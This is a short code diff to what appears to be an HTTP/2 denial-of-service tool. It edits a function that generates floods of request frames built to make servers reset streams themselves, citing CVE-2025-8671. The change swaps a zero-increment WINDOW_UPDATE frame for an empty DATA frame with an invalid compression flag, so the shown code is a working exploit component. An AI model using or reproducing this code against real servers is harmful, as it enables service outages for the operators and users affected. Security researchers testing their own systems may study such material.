@@ -1,6 +1,5 @@
 """Frames that cost their sender little and are many."""
 
-import struct
 import time
 from collections.abc import Callable
 
@@ -64,15 +63,13 @@ def _resets(one: Attacker, due: int) -> bytes:
 
 
 def _provoked(one: Attacker, due: int) -> bytes:
-    """Calls that the server must reset itself: each is followed by an increment of 0 (CVE-2025-8671)."""
+    """Calls that the server must reset itself, as their messages are malformed (CVE-2025-8671)."""
     block = one.block(UNARY)
     sent = bytearray()
     for _ in range(due):
         frame = one.headers(block)
         one.open.pop(frame.stream_id, None)
-        # hyperframe refuses to make this frame.
-        update = b"\0\0\4\x08\0" + struct.pack(">II", frame.stream_id, 0)
-        sent += frame.serialize() + data(frame.stream_id, b"", "END_STREAM").serialize() + update
+        sent += frame.serialize() + data(frame.stream_id, b"", compressed=255).serialize()
     return bytes(sent)
 
 
